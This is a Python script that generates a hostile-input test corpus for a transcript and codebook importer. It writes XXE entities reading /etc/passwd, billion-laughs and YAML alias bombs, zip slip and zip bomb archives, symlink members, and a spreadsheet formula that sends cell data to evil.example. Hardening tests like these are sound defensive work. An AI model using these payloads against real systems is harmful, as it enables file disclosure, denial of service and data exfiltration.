"""Write the hostile-input corpus in ``tests/data/bad/`` (run once; the files are committed).

    .venv/bin/python tests/reliability/make_bad_corpus.py

Files named ``ok-*`` are awkward but valid and must import; every other file must
be refused with one line. The 50 MB single-line file is made at test time instead.
"""

from __future__ import annotations

import io
import random
import stat
import struct
import warnings
import zipfile
from pathlib import Path

BAD = Path(__file__).resolve().parents[1] / "data" / "bad"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def docx_bytes(lines: list[str]) -> bytes:
    import docx

    document = docx.Document()
    for line in lines:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def odt_bytes(lines: list[str]) -> bytes:
    from odf.opendocument import OpenDocumentText
    from odf.text import P

    document = OpenDocumentText()
    for line in lines:
        document.text.addElement(P(text=line))
    out = io.BytesIO()
    document.write(out)
    return out.getvalue()


def rezip(
    data: bytes, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None
) -> bytes:
    """A copy of a zip with some members replaced or added."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, body in add.items():
            dst.writestr(name, body)
    return out.getvalue()


def overlapping_bomb(base: bytes, copies: int = 14, size: int = 48 * 1024 * 1024) -> bytes:
    """``base`` plus one highly compressed member listed ``copies`` times in the central
    directory (all entries share the same data): small on disk, gigantic unpacked."""
    packed = rezip(base, add={"bomb/x00.xml": b"\0" * size})
    eocd = packed.rindex(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack("<II", packed[eocd + 12 : eocd + 20])
    directory = packed[cd_offset : cd_offset + cd_size]
    last = directory.rindex(b"PK\x01\x02")
    record = directory[last:]
    extra = b"".join(
        record.replace(b"bomb/x00.xml", f"bomb/x{i:02d}.xml".encode()) for i in range(1, copies)
    )
    count = struct.unpack("<H", packed[eocd + 10 : eocd + 12])[0] + copies - 1
    new_dir = directory + extra
    tail = (
        b"PK\x05\x06"
        + b"\0" * 4
        + struct.pack("<HHII", count, count, len(new_dir), cd_offset)
        + b"\0\0"
    )
    return packed[:cd_offset] + new_dir + tail


def qde(body: str, doctype: str = "") -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        + doctype
        + '<Project xmlns="urn:QDA-XML:project:1.0" name="x" origin="test">'
        + body
        + "</Project>"
    ).encode()


def write(name: str, data: bytes | str) -> None:
    (BAD / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def main() -> None:
    BAD.mkdir(parents=True, exist_ok=True)
    rng = random.Random(8)
    lines = ["I: Hoe gaat het?", "R: Goed, ik heb weer structuur."]
    docx = docx_bytes(lines)
    odt = odt_bytes(lines)
    xxe = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>R: &xxe;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    laughs = (
        '<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY a "hahahahahahaha">'
        + "".join(
            f'<!ENTITY {c} "{("&" + p + ";") * 10}">'
            for p, c in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + f']>\n<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&i;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()

    # ---- plain text -----------------------------------------------------------------
    write("empty.txt", b"")
    write("whitespace-only.txt", "  \n\t\n   \r\n\n")
    write("bom-only.txt", b"\xef\xbb\xbf\n")
    write("binary.txt", bytes(rng.randrange(256) for _ in range(4096)))
    write("image-renamed.txt", PNG)
    write("pdf-renamed.txt", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n")
    write("word97-renamed.txt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    write(
        "controls-in-speaker.txt",
        "I: Hoe gaat het?\nJan\x1b[31m: Goed.\nI: Mooi.\nJan\x1b[31m: Ja.\n",
    )
    write(
        "bidi-override-speaker.vtt",
        "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n<v Jan\u202eblah>Hallo daar.\n",
    )
    write(
        "formula-speaker.vtt",
        "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n"
        '<v =HYPERLINK("http://evil.example/?"&A1)>Hallo daar.\n\n'
        "00:00:03.000 --> 00:00:04.000\n<v Marieke>Dag.\n",
    )
    write(
        "formula-speaker-at.vtt",
        "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n<v @SUM(A1:A9)>Hallo daar.\n",
    )
    write("escape-sequence.srt", "1\n00:00:01,000 --> 00:00:02,000\nR: \x1b]0;pwned\x07hallo\n")
    write("unsupported.pdf", b"%PDF-1.4\n")
    # Awkward but valid: these must import.
    write(
        "ok-utf16-no-bom.txt",
        "I: Hoe gaat het met je?\nR: Prima, ik werk nu drie dagen in de kringloop.\n".encode(
            "utf-16-le"
        ),
    )
    write(
        "ok-mixed-encodings.txt",
        b"I: Hoe gaat het?\n"
        + "R: Goed, één cliënt zei: café.\n".encode()
        + "R: En daarna ging ik naar de coöperatie.\n".encode("cp1252"),
    )

    # ---- subtitles ------------------------------------------------------------------
    write(
        "broken-timestamps.vtt",
        "WEBVTT\n\n00:00:xx.000 --> 00:00:02.000\nR: hallo\n\n00:00:03 --> later\nR: nog iets\n",
    )
    write("no-cues.vtt", "WEBVTT\n\n")
    write("no-header.vtt", "00:00:01.000 --> 00:00:02.000\nR: hallo\n")
    write(
        "negative-cue-numbers.srt",
        "-1\n00:00:01,000 --> 00:00:02,000\nR: hallo\n\n"
        "-2\n00:00:03,000 --> 00:00:04,000\nR: daarna\n",
    )
    write("garbage.srt", "Dit is geen ondertitelbestand.\nHelemaal niet.\n")

    # ---- office documents -----------------------------------------------------------
    write("truncated.docx", docx[: len(docx) // 2])
    write("not-a-zip.docx", "I: Dit is gewoon tekst met de verkeerde extensie.\n")
    write("word97-renamed.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    write("corrupt-document-xml.docx", rezip(docx, {"word/document.xml": b"<w:document><<<"}))
    write("missing-document-xml.docx", _without(docx, "word/document.xml"))
    write("zip-slip.docx", rezip(docx, add={"../../../../tmp/cmo-zip-slip.txt": b"pwned"}))
    write("zip-bomb.docx", overlapping_bomb(docx))
    write("xxe.docx", rezip(docx, {"word/document.xml": xxe}))
    write("billion-laughs.docx", rezip(docx, {"word/document.xml": laughs}))
    write("truncated.odt", odt[: len(odt) // 2])
    write("corrupt-content-xml.odt", rezip(odt, {"content.xml": b"<office:document-content"}))
    write("xxe.odt", rezip(odt, {"content.xml": xxe.replace(b"w:document", b"office:x")}))

    # ---- QDPX -----------------------------------------------------------------------
    good_qde = qde(
        '<CodeBook><Codes><Code guid="7d2e8f52-4e2d-4c47-9d43-1f1b7c1a0001" '
        'name="M3b" isCodable="true"/></Codes></CodeBook>'
    )
    qdpx = _zip({"project.qde": good_qde})
    write("truncated.qdpx", qdpx[: len(qdpx) // 2] + b"\0" * 7)
    write("corrupt.qdpx", _zip({"project.qde": b"\x00\x01 this is not xml <<<"}))
    write(
        "zip-slip.qdpx",
        _zip({"project.qde": good_qde, "../../evil.txt": b"pwned", "/etc/cron.d/evil": b"pwned"}),
    )
    write("zip-bomb.qdpx", overlapping_bomb(qdpx))
    write(
        "xxe.qdpx",
        _zip(
            {
                "project.qde": qde(
                    "<Description>&xxe;</Description>",
                    '<!DOCTYPE Project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n',
                )
            }
        ),
    )

    # ---- codebooks ------------------------------------------------------------------
    head = "codebook: kapot\nclusters:\n  - {id: M3, family: M, name: Relatie}\ncodes:\n"
    write(
        "codebook-duplicate-ids.yaml",
        head + "  - {id: M3a, family: M, name: Een}\n"
        "  - {id: M3b, family: M, name: Twee}\n  - {id: m3a, family: M, name: Drie}\n",
    )
    write(
        "codebook-cycle.yaml",
        head + "  - {id: A, family: M, name: A, parent: C}\n"
        "  - {id: B, family: M, name: B, parent: A}\n"
        "  - {id: C, family: M, name: C, parent: B}\n",
    )
    write(
        "codebook-unknown-parent.yaml",
        head + "  - {id: O3.1, family: O, name: Trede 1, parent: O9}\n",
    )
    write("codebook-not-yaml.yaml", "codes:\n  - id: [unclosed\n\t- bad: indent\n")
    write("codebook-wrong-shape.yaml", "- just\n- a\n- list\n")
    write(
        "codebook-alias-bomb.yaml",
        "a: &a [x, x, x, x, x, x, x, x, x]\n"
        + "".join(
            f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
            for p, c in zip("abcdefgh", "bcdefghi", strict=True)
        )
        + "codes: [*i]\n",
    )
    write("codebook-binary.yaml", bytes(rng.randrange(256) for _ in range(2048)))

    # ---- project settings -----------------------------------------------------------
    write("project-wrong-types.toml", 'name = 42\ncoder = ["anna", "bert"]\n')
    write("project-database-wrong-type.toml", 'name = "x"\ndatabase = 5432\n')
    write("project-not-toml.toml", "name = \nthis is [not toml\n")
    write("project-binary.toml", b"\xff\xfe\x00\x01garbage\x00")


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def _without(data: bytes, member: str) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            if info.filename != member:
                dst.writestr(info.filename, src.read(info.filename))
    return out.getvalue()


def round_two() -> None:
    """Hostile inputs of the second red-team round (added without rewriting the others)."""
    cue = "00:00:05,000 --> 00:00:09,000\n<v Respondent>Ik kom hier elke week graag.\n\n"
    write(
        "ok-vtt-comma-timing.vtt",
        "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Interviewer>Hoe vaak komt u hier?\n\n" + cue,
    )
    write(
        "vtt-twenty-digit-hour.vtt",
        "WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Interviewer>Hoe vaak komt u hier?\n\n"
        "12345678901234567890:00:05.000 --> 12345678901234567890:00:09.000\n"
        "<v Respondent>Elke week.\n\n",
    )
    write(
        "srt-huge-hour.srt",
        "1\n00:00:01,000 --> 00:00:04,000\nI: Hoe gaat het?\n\n"
        "2\n1000000000000:00:05,000 --> 1000000000000:00:09,000\nR: Goed.\n\n",
    )
    document = (
        f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>R: &e;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    late_doctype = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<!--' + "x" * 6000 + "-->\n"
        '<!DOCTYPE w:document [<!ENTITY e "ingevoegd">]>\n' + document
    ).encode()
    base = docx_bytes(["I: Hoe gaat het?", "R: Goed, ik heb weer structuur."])
    write("docx-doctype-after-comment.docx", rezip(base, {"word/document.xml": late_doctype}))
    deep = 20_000
    nested = (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        "<office:body><office:text>"
        + "<text:section>" * deep
        + "<text:p>R: diep</text:p>"
        + "</text:section>" * deep
        + "</office:text></office:body></office:document-content>"
    ).encode()
    write(
        "odt-deeply-nested.odt",
        rezip(odt_bytes(["I: Hoe gaat het?"]), {"content.xml": nested}),
    )
    write(
        "backspace-in-text.txt",
        "I: Wie was uw coach?\nR: Mevrouw Jansen\b\b\b\b\b\bXXXXXX hielp me.\n",
    )
    write("bell-in-text.txt", "I: Hoe gaat het?\nR: Goed\x07\x0b\x0c en met u?\n")
    codes = "".join(
        f"  - {{id: C{i}, family: C, name: Code {i}, keywords: [*k]}}\n" for i in range(400)
    )
    write(
        "codebook-keyword-alias-bomb.yaml",
        "anchors:\n  - &w [werk, werk, werk, werk, werk, werk, werk, werk, werk, werk]\n"
        "  - &k [*w, *w, *w, *w, *w, *w, *w, *w, *w, *w]\ncodes:\n" + codes,
    )
    write("codebook-deep-nesting.yaml", "codes: " + "[" * 100_000 + "]" * 100_000 + "\n")
    write(
        "codebook-control-in-name.yaml",
        'codes:\n  - {id: C1, family: C, name: "Relatie\\e]0;pwned\\a"}\n',
    )
    qde_body = (
        '<Sources><TextSource guid="00000000-0000-0000-0000-000000000001" name="passwd" '
        'plainTextPath="relative://passwd"/></Sources>'
    )
    project = (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<Project xmlns="urn:QDA-XML:project:1.0" name="x" origin="test" basePath="/etc">'
        + qde_body
        + "</Project>"
    ).encode()
    write("qdpx-basepath-etc.qdpx", _zip({"project.qde": project}))
    members = {"project.qde": qde("")}
    for i in range(200):
        members[f"sources/{i:03d}.txt"] = b"a" * (1024 * 1024 - 1)
    write("qdpx-many-small-bombs.qdpx", _zip(members))


def _with_member(data: bytes, name: str, body: bytes, mode: int | None = None) -> bytes:
    """A copy of a zip with one more member (which may repeat a name, or be a link)."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        member = zipfile.ZipInfo(name)
        member.compress_type = zipfile.ZIP_DEFLATED
        if mode is not None:
            member.external_attr = mode << 16
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # "Duplicate name" is the point
            dst.writestr(member, body)
    return out.getvalue()


def _encrypted_flag(data: bytes) -> bytes:
    """The same zip with every member marked as encrypted (general purpose bit 0)."""
    raw = bytearray(data)
    for signature, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = raw.find(signature)
        while at >= 0:
            raw[at + offset] |= 1
            at = raw.find(signature, at + 4)
    return bytes(raw)


def round_three() -> None:
    """Third round: other variants of the same classes of attack."""
    base = docx_bytes(["I: Hoe gaat het?", "R: Goed, ik heb weer structuur."])
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        document = archive.read("word/document.xml")
    hidden = document.replace(b"weer structuur", b"VERBORGEN TEKST")
    write("docx-duplicate-member.docx", _with_member(base, "word/document.xml", hidden))
    write(
        "docx-symlink-member.docx",
        _with_member(base, "word/media/image1.png", b"/etc/passwd", stat.S_IFLNK | 0o777),
    )
    write("docx-encrypted-members.docx", _encrypted_flag(base))
    utf32 = '<?xml version="1.0" encoding="UTF-32"?>\n<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
    write("docx-utf32-doctype.docx", rezip(base, {"word/styles.xml": utf32.encode("utf-32")}))
    write(
        "docx-not-a-word-body.docx",
        rezip(base, {"word/document.xml": b'<?xml version="1.0"?><x/>'}),
    )
    write("invisible-only.txt", "\u00a0\u3000\u200b\n\ufeff\u2060\n")
    write("zero-width-in-label.txt", "I: Hoe gaat het?\nJa\u200bn: Goed, dank u.\n")
    write("rlm-before-label.txt", "I: Hoe gaat het?\n\u200fJan: Goed, dank u.\n")
    deep = 5000
    nested = "".join(
        f'<Code guid="00000000-0000-0000-0000-{i:012d}" name="K{i}" isCodable="true">'
        for i in range(deep)
    )
    body = "<CodeBook><Codes>" + nested + "</Code>" * deep + "</Codes></CodeBook>"
    write("qdpx-deep-code-tree.qdpx", _zip({"project.qde": qde(body)}))
    source = (
        '<Sources><TextSource guid="00000000-0000-0000-0000-000000000001" name="gesprek" '
        'plainTextPath="internal://gesprek.txt"/></Sources>'
    )
    archive = _zip({"project.qde": qde(source), "sources/gesprek.txt": b"I: Hoe gaat het?\n"})
    write(
        "qdpx-duplicate-member.qdpx",
        _with_member(archive, "sources/gesprek.txt", b"I: Andere tekst.\nR: Verborgen.\n"),
    )


if __name__ == "__main__":
    main()
    round_two()
    round_three()
